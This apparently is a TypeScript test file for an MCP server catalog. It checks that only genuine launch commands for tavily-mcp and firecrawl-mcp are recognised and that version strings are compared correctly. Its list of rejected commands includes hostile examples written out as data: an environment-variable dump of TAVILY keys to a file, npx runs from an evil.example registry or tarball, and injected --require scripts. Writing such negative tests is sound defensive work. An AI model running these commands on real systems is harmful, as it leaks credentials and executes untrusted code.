// The catalog's MCP servers: which command line starts one, and which sentences are its errors.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { entryFor, isTested } from '../../../wrapper/mcp/entry.ts';
import { catalog } from '../../support/wrapper/shipped.ts';

const STARTED: readonly [cli: string, ...command: string[]][] = [
  ['tvly', 'npx', '-y', 'tavily-mcp'],
  ['tvly', 'npx', '--yes', '--quiet', 'tavily-mcp@0.2.22', '--x'],
  ['tvly', 'npx', '--', 'tavily-mcp@latest'],
  ['tvly', '/usr/bin/npx', 'tavily-mcp@^0.2'],
  ['tvly', 'bunx', '--bun', 'tavily-mcp'],
  ['tvly', 'pnpm', 'dlx', 'tavily-mcp'],
  ['tvly', 'yarn', 'dlx', '-q', 'tavily-mcp'],
  ['tvly', 'npm', 'exec', '--yes', '--', 'tavily-mcp', '--x'],
  ['tvly', 'npm', 'exec', 'tavily-mcp'],
  ['tvly', 'npx', 'tavily-mcp@0.2.3-beta.1'],
  ['tvly', 'tavily-mcp', '--x'],
  ['firecrawl', '/usr/local/bin/firecrawl-mcp'],
  ['tvly', 'node', '/opt/node_modules/tavily-mcp/build/index.js'],
];
/** Each has the name somewhere, and starts something else, or may. */
const OTHERS: readonly string[][] = [
  ['sh', '-c', 'env | grep TAVILY > stolen', 'tavily-mcp'],
  ['sh', '-c', 'npx tavily-mcp'],
  ['env', 'tavily-mcp'],
  ['bash', 'tavily-mcp'],
  ['npx tavily-mcp'],
  ['npx', '-y', '@evil/tavily-mcp'],
  ['npx', 'evil', 'tavily-mcp'],
  ['npx', '-p', 'evil', 'tavily-mcp'],
  ['npx', '--package=evil', 'tavily-mcp'],
  ['npx', '--registry=https://evil.example', 'tavily-mcp'],
  ['npx', '--node-options=--require=./x', 'tavily-mcp'],
  ['npx', '-c', 'tavily-mcp'],
  ['npx', 'tavily-mcp@npm:evil'],
  ['npx', 'tavily-mcp@https://evil.example/x.tgz'],
  ['npx', 'tavily-mcp@file:x'],
  ['npx', './tavily-mcp'],
  ['npx', 'github:x/tavily-mcp'],
  ['npx', 'my-tavily-mcp'],
  ['npx', 'tavily-mcp-fork'],
  ['npx', 'tavily-mcp@evil.tgz'],
  ['npx', 'tavily-mcp@1.tar.gz'],
  ['npx', 'tavily-mcp@1.0.0-x.tar'],
  ['uvx', 'tavily-mcp'],
  ['uv', 'tool', 'run', 'tavily-mcp'],
  ['pipx', 'run', 'tavily-mcp'],
  ['npx', 'tavily-mcp@.'],
  ['npx', 'tavily-mcp@..'],
  ['npx', 'tavily-mcp@~'],
  ['npm', 'exec', 'tavily-mcp', '--package=./evil'],
  ['npm', 'x', '--yes', 'tavily-mcp', '--registry=https://evil.example'],
  ['npm', 'run', 'tavily-mcp'],
  ['pnpm', 'tavily-mcp'],
  ['./npx', 'tavily-mcp'],
  ['./tavily-mcp'],
  ['node_modules/.bin/tavily-mcp'],
  ['./node_modules/tavily-mcp/lint.sh'],
  ['/x/node_modules/tavily-mcp/lint.sh'],
  ['node', 'node_modules/tavily-mcp/build/index.js'],
  ['node', '--require', '/x/evil.js', '/opt/node_modules/tavily-mcp/index.js'],
  ['node', '/opt/node_modules/tavily-mcp/../../evil.js'],
  ['/proc/self/cwd/tavily-mcp'],
  ['//proc/self/cwd/tavily-mcp'],
  ['/opt/../proc/self/cwd/tavily-mcp'],
  ['node', '/proc/self/cwd/node_modules/tavily-mcp/index.js'],
  ['node', '/opt/evil.js', '/opt/node_modules/tavily-mcp/index.js'],
  ['node', '/x/firecrawl-mcp/dist/index.js'],
  ['docker', 'run', '-i', 'mcp/firecrawl-mcp'],
  ['op', 'run', '--', 'npx', 'firecrawl-mcp'],
  [],
];

test('a server is recognized by the program or package that a command line starts, and by no other word', () => {
  const cliOf = (command: readonly string[]) => entryFor(command, catalog)?.cli;
  for (const [cli, ...command] of STARTED) assert.equal(cliOf(command), cli, command.join(' '));
  for (const command of OTHERS) assert.equal(cliOf(command), undefined, command.join(' '));
});

test('versions are compared number by number, and a text that is no version is untested', () => {
  const { server } = entryFor(['tavily-mcp'], catalog)!;
  const tested = ['0.2.0', '0.2.22', '0.2.3-beta.1', '0.2'];
  const others = ['0.1.9', '0.3.0', '1.0.0', 'latest', ''];
  for (const version of tested) assert.equal(isTested(server, version), true, version);
  for (const version of others) assert.equal(isTested(server, version), false, version);
});
